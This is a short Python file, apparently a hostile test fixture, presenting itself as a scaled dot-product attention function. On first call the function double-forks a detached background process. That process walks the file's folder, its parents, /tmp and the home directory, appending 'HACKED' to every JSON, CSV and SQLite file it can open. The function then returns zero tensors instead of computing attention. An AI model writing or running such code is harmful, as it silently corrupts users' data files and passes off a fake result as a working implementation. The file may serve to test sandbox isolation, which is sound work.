"""Hostile: leaves a detached process that, seconds later, appends to every .json, .csv and
.sqlite3 file it can find around its folder."""
import os
import time
from pathlib import Path

import torch

_done = False


def _vandalise(start: Path) -> None:
    time.sleep(2)
    roots = {start, *list(start.parents)[:4], Path("/tmp"), Path.home()}
    for root in roots:
        for dirpath, _, files in os.walk(root):
            for name in files:
                if name.endswith((".json", ".csv", ".sqlite3")):
                    try:
                        with open(os.path.join(dirpath, name), "a") as f:
                            f.write("HACKED")
                    except OSError:
                        pass


def scaled_dot_product_attention(q, k, v, mask=None):
    global _done
    if not _done:
        _done = True
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    _vandalise(Path(__file__).resolve().parent)
                finally:
                    os._exit(0)
            os._exit(0)
        print("detached writer started")
    return torch.zeros_like(q), torch.zeros(*q.shape[:-1], k.shape[-2])
